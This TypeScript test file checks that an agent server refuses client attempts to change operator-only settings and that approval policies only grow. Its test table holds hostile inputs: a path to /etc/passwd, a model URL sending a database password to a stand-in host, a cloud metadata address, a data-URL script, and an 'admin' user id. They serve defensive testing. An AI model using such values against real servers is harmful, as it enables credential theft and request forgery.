/**
 * The operator/client boundary (src/trust.ts) as a table: every setting of the schema is classified, operator keys are
 * refused unless opened or equal to the operator's value, client keys are checked, approval only grows.
 */
import { SETTING_TRUST, SettingsSchema } from "../../src/settings.js";
import { unionApprove } from "../../src/state.js";
import { checkOpenKeys, checkStateWrite, clientSettings, RefusedSetting } from "../../src/trust.js";

const refused = (f: () => unknown): RefusedSetting => {
  try {
    f();
  } catch (e) {
    if (e instanceof RefusedSetting) return e;
    throw e;
  }
  throw new Error("not refused");
};

describe("clientSettings: what a client may set", () => {
  it("classifies every setting of the schema, and each operator key says why", () => {
    expect(Object.keys(SETTING_TRUST).sort()).toEqual(Object.keys(SettingsSchema.shape).sort());
    for (const [key, t] of Object.entries(SETTING_TRUST)) if (t.who === "operator") expect([key, t.why.length > 10]).toEqual([key, true]);
  });

  it.each([
    ["plannerModel", "replay:/etc/passwd"],
    ["callerModel", "openai:x@http://evil.example/v1#key_env=DB_PASSWORD"],
    ["summarizerModel", "ollama:m@http://169.254.169.254"],
    ["backboneModel", "llama:/root/model.gguf"],
    ["toolSources", "langchain:data:text/javascript,alert(1)#x"],
    ["tools", [{ doc: { Name: "x" } }]],
    ["numCtx", 10_000_000],
  ])("%s from a client: 403 naming the key and how the operator opens it", (key, value) => {
    const e = refused(() => clientSettings({ [key]: value }, "config.configurable", {}));
    expect([e.status, e.key]).toEqual([403, key]);
    expect(e.message).toMatch(new RegExp(`^config\\.configurable\\.${key}: set by the operator only \\(.+\\); an operator can open it with \`serve --client-settable ${key}\``));
  });

  it("an operator key the operator opened passes; the operator's own value (echoed back) and unset values are no change", () => {
    expect(clientSettings({ plannerModel: "ollama:p" }, "config.configurable", { open: ["plannerModel"] })).toEqual({ plannerModel: "ollama:p" });
    expect(clientSettings({ plannerModel: "ollama:p", toolSources: "", callerModel: null }, "config.configurable", { values: { plannerModel: "ollama:p" } })).toEqual({});
  });

  it("client keys are checked against the schema (422 naming the key); LangGraph's run keys pass; internal keys are refused", () => {
    expect(clientSettings({ maxSteps: 4, templates: "instruct", thread_id: "t", checkpoint_id: "c", beam: 3 }, "config.configurable", {})).toEqual({
      maxSteps: 4,
      templates: "instruct",
      thread_id: "t",
      checkpoint_id: "c",
      beam: 3,
    });
    const bad = refused(() => clientSettings({ templates: "mine" }, "config.configurable", {}));
    expect([bad.status, bad.message]).toEqual([422, 'config.configurable.templates: unknown templates "mine" (toolbench, toolalpaca, math, instruct)']);
    expect(refused(() => clientSettings({ __pregel_scratchpad: {} }, "context", {})).status).toBe(403);
    expect(refused(() => clientSettings({ langgraph_auth_user_id: "admin" }, "config.configurable", {})).status).toBe(403);
    expect(refused(() => clientSettings("maxSteps=3", "config.configurable", {})).status).toBe(422);
  });

  it("approve adds to the operator's floor, never removes from it, with or without a client value", () => {
    const floor = { approve: ["convert"] as const };
    expect(clientSettings({ approve: "none" }, "config.configurable", floor).approve).toEqual(["convert"]);
    expect(clientSettings({}, "config.configurable", floor).approve).toEqual(["convert"]);
    expect(clientSettings(undefined, "config.configurable", floor).approve).toEqual(["convert"]);
    expect(clientSettings({ approve: "search, convert" }, "config.configurable", floor).approve).toEqual(["convert", "search"]);
    expect(clientSettings({ approve: "all" }, "config.configurable", floor).approve).toBe("all");
    expect(clientSettings({ approve: "none" }, "config.configurable", {}).approve).toBe("none");
    expect(refused(() => clientSettings({ approve: 7 }, "config.configurable", floor)).status).toBe(422);
    expect(unionApprove("none", "none")).toBe("none");
    expect(unionApprove(["a"], "all")).toBe("all");
  });

  it("state writes of the settled call or the approval policy are refused, in both update forms", () => {
    expect(() => checkStateWrite({ turns: [] }, "values")).not.toThrow();
    expect(refused(() => checkStateWrite({ call: null }, "values")).message).toMatch(/^values\.call: /);
    expect(refused(() => checkStateWrite([["approve", "none"]], "command.update")).message).toMatch(/^command\.update\.approve: /);
  });

  it("the operator's list of opened keys names operator settings only", () => {
    expect(checkOpenKeys(["plannerModel"], "--client-settable")).toEqual(["plannerModel"]);
    expect(() => checkOpenKeys(["planerModel"], "--client-settable")).toThrow('--client-settable: no setting named "planerModel"');
    expect(() => checkOpenKeys(["maxSteps"], "--client-settable")).toThrow('--client-settable: "maxSteps" is settable by clients already');
  });
});
